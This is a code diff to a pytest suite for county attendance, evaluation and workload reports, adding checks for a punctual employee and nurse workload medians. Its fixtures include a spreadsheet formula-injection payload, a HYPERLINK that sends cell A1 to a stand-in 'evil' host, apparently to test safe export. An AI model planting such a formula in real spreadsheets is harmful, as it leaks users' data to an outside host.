@@ -11,6 +11,7 @@ from datetime import date, timedelta
 from decimal import Decimal
 from fractions import Fraction
 from pathlib import Path
+from statistics import median
 from typing import Any
 
 import openpyxl
@@ -26,6 +27,7 @@ pytestmark = pytest.mark.xdist_group("reports")
 MONTHS = ("2026-07", "2026-08", "2026-09")
 MONTH = MONTHS[-1]
 KRIDA = "2026-09-04"
+PUNCTUAL = 6
 PEOPLE = {"BAPPEDA": 5, "CAMAT": 3, "DINKES": 7, "DISDIK": 9}
 EVIL = "=HYPERLINK(\"http://evil/\"&A1;'click')"
 NAMES = (EVIL, "+62 Ahmad", "-Noor", "@Siti", "Dewi & <b>Rizal</b>")
@@ -53,9 +55,9 @@ def punches(people: dict[str, tuple[str, str]]) -> Iterator[dict[str, str]]:
     for number, (_nip, (unit, _)) in enumerate(people.items(), start=1):
         for month in MONTHS:
             for day in workdays(month):
-                if (day.day + 3 * number) % 29 == 0:
+                if number != PUNCTUAL and (day.day + 3 * number) % 29 == 0:
                     continue
-                late = (day.day * number) % 11 == 3
+                late = number != PUNCTUAL and (day.day * number) % 11 == 3
                 for clock in ("07:55:10" if late else "07:20:00", "16:40:00"):
                     yield {"terminal": unit.lower(), "pin": str(number), "clock": f"{day} {clock}"}
 
@@ -206,6 +208,7 @@ def publish_all(county: County) -> None:
         "employees",
         [
             {"nip": nip, "name": name, "unit": unit, "allowance_rp": 4_000_000, "valid_from": "2026-01-01"}
+            | {"position": "Perawat" if unit == "DINKES" else None}
             for nip, (unit, name) in people.items()
         ],
     )
@@ -293,7 +296,7 @@ def test_the_units_report_is_the_view(county: County) -> None:
         assert (plain["unit_code"], plain["employees"]) == (row["unit_code"], str(row["employees"]))
         assert [plain[name] for name in columns] == [str(row[name]) for name in columns]
         assert [percent(cell) for cell in cells[3:6]] == [Decimal(str(row[name])) for name in columns]
-        assert line[3:6] == [f"{row[name]}%".replace(".", ",") for name in columns]
+        assert line[2:5] == [f"{row[name]}%".replace(".", ",") for name in columns]
         assert int(plain["trend_months_without_growth"]) == cells[7] == row["trend_months_without_growth"]
     earlier = sql(
         county.installation.url, "select * from unit_scores_v1 where period = '2026-08' and unit_code = 'DINKES'"
@@ -385,6 +388,7 @@ def test_the_evaluation_says_who_is_at_the_maximum_and_who_wrote_nothing(county:
         scores = (document["discipline"]["score_pct"], document["performance"]["score_pct"])
         assert (row["discipline_pct"], row["performance_pct"]) == scores
         assert (row["at_maximum"] == "ya") == (scores == ("100", "100"))
+    assert [row["unit"] for row in rows if row["at_maximum"] == "ya"] == ["CAMAT"]
     path = written(county, "evaluation", ".xlsx")
     silent = {row[1]: row[4] for row in sheet_rows(path, "Hari tanpa isian")}
     entries = {(entry["nip"], str(entry["date"])) for entry in activities(county.people)}
@@ -429,6 +433,13 @@ def test_the_workload_report_weighs_the_view(county: County) -> None:
         assert Decimal(found["load_minutes"]) == load
         need = int(load / 75_000 + Decimal("0.5"))
         assert (int(found["need"]), int(found["staff"]), int(found["gap"])) == (need, row["staff"], row["staff"] - need)
+    entered = {(entry["nip"], str(entry["date"])): entry["approved_minutes"] for entry in activities(county.people)}
+    means = []
+    for document in documents(county, "--office", "DINKES"):
+        present = [day["date"] for day in document["days"] if day["worked_minutes"] is not None]
+        means.append(Fraction(sum(entered.get((document["nip"], day), 0) for day in present), len(present)))
+    assert int(rows["DINKES", "Perawat"]["logged_minutes"]) == int(median(means) + Fraction(1, 2))
+    assert rows["DINKES", "Analis"]["logged_minutes"] == ""
     units = {row[0]: row for row in sheet_rows(written(county, "workload", ".xlsx"), "Perangkat daerah")}
     assert units["DINKES"][2:] == [19, 12, 12, 5]  # twelve nurses are missing although there are five analysts too many
     public = {row["unit"]: row for row in csv_rows(written(county, "workload", ".csv", "--public"))}
